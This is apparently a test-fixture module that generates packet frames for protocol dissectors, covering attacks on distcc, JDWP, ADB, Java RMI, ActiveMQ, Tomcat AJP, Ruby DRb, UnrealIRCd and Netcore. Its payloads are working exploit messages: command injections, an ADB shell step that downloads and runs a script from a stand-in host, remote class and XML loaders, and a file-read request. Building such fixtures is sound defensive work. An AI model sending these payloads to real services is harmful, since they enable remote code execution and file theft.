"""Commands to exposed services: a compilation and a shell command for distcc, JDWP, ADB with two services, a Java
object with a code URL over RMI, a class for ActiveMQ (OpenWire), two requests to Tomcat over AJP, one of them for a
file, a method of a Ruby object (DRb), and the backdoors of UnrealIRCd and Netcore. Addresses are fictitious.
"""

from __future__ import annotations

import struct

from pcaps.dissectors._frames import DESKTOP, PBX, Frames, conversation, udp

CLIENT, SERVER = (DESKTOP, "10.20.30.66"), (PBX, "10.20.30.5")
CLASS = b"org.springframework.context.support.ClassPathXmlApplicationContext"


def compilation(*arguments: bytes) -> bytes:
    return b"DIST00000001ARGC%08x" % len(arguments) + b"".join(b"ARGV%08x%b" % (len(word), word) for word in arguments)


def adb_message(command: bytes, first: int, second: int, data: bytes) -> bytes:
    """A message of ADB: command, two arguments, size and sum of the data, the inverted command."""
    number = int.from_bytes(command, "little")
    head = struct.pack("<4s5I", command, first, second, len(data), sum(data), number ^ 0xFFFFFFFF)
    return head + data


def rmi_call(*names: bytes) -> bytes:
    """A call with serialized objects: for each class its name, serial version UID and flags."""
    parts = (b"sr" + struct.pack(">H", len(name)) + name + b"serial88\x02\0\0xp" for name in names)
    return b"P\xac\xed\0\x05w\x22" + b"".join(parts)


def ajp_request(target: bytes, attributes: dict[bytes, bytes]) -> bytes:
    """A GET request of a web server to Tomcat, without header fields."""

    def text(value: bytes) -> bytes:
        return struct.pack(">H", len(value)) + value + b"\0"

    head = text(b"HTTP/1.1") + text(target) + text(b"10.20.30.66") + b"\xff\xff" + text(b"tomcat")
    named = b"".join(b"\x0a" + text(name) + text(value) for name, value in attributes.items())
    body = b"\x02\x02" + head + struct.pack(">H?H", 8009, False, 0) + named + b"\xff"
    return b"\x12\x34" + struct.pack(">H", len(body)) + body


def frames() -> Frames:
    def connection(port: int, number: int, *messages: bytes) -> Frames:
        yield from conversation((*CLIENT, number), (*SERVER, port), [(True, message) for message in messages])

    yield from connection(3632, 49500, compilation(b"gcc", b"-O2", b"-c", b"main.c"))
    yield from connection(3632, 49501, compilation(b"sh", b"-c", b"id", b"#", b"-c", b"main.c", b"-o", b"main.o"))
    yield from connection(8000, 49502, b"JDWP-Handshake")
    opened = [b"shell:getprop\0", b"shell:cd /data/local/tmp; busybox wget http://198.51.100.7/w.sh; sh w.sh\0"]
    yield from connection(
        5555, 49503, adb_message(b"CNXN", 0x01000000, 4096, b"host::\0"),
        *(adb_message(b"OPEN", number, 0, service) for number, service in enumerate(opened, 1)),
    )  # fmt: skip
    loader = rmi_call(b"java.rmi.server.ObjID", b"http://198.51.100.7:8080/a/x.jar", b"metasploit.RMILoader")
    yield from connection(1099, 49504, b"JRMI\0\x02K", loader)
    error = b"\x1f\0\0\0\0\0\x01\x01" + struct.pack(">H", len(CLASS)) + CLASS + b"\x01\0\x1bhttp://198.51.100.7/poc.xml"
    yield from connection(61616, 49505, struct.pack(">I", len(error)) + error)
    include = b"javax.servlet.include."
    file = {include + b"request_uri": b"/", include + b"path_info": b"WEB-INF/web.xml", include + b"servlet_path": b"/"}
    yield from connection(8009, 49506, ajp_request(b"/shop", {}), ajp_request(b"/a.txt", file))
    ruby = [b"\x04\x080", b'\x04\x08I"\x12instance_eval\x06:\x06ET', b"\x04\x08i\x06"]
    yield from connection(8787, 49507, b"".join(struct.pack(">I", len(each)) + each for each in ruby))
    yield from connection(6667, 49508, b"AB;id\n")
    yield udp(*(end[0] for end in (CLIENT, SERVER)), CLIENT[1], SERVER[1], 49509, 53413, b"AA\0\0AAAA cd /tmp; ls\0")
